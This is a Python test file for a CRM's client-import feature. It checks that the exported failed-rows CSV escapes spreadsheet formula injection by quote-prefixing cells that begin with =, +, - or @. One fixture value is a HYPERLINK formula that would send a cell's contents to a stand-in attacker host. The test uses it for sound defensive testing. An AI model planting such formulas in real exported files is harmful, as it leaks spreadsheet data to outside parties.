"""Hostile import files through the panel and `crmhub import clients`: cells that are
formulas, bytes no encoding explains, XLSX files that would take the web process down."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from crm.models import ImportStatus
from tests.admin_web.conftest import Browser
from tests.admin_web.import_data import rows, write_csv
from tests.admin_web.test_import import start, upload

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_the_failed_rows_file_is_formula_safe(as_admin: Browser, tmp_path: Path) -> None:
    data = rows(2)
    data.append([HYPERLINK, "1234567890", "+7 916", "@SUM(1)", "-2+3"])  # a wrong INN: fails
    path = write_csv(tmp_path / "clients.csv", data)
    await upload(as_admin, path)
    job = await start(as_admin, as_admin.page, column_4="")
    assert job.status == ImportStatus.DONE and job.skipped == 1
    resp = await as_admin.client.get(f"/import/jobs/{job.id}/failed.csv")
    table = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig")), delimiter=";"))
    line, name, inn, *_rest, reason = table[1]
    assert name == "'" + HYPERLINK
    assert (line, inn) == ("4", "1234567890")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
    assert "INN checksum is wrong" in reason
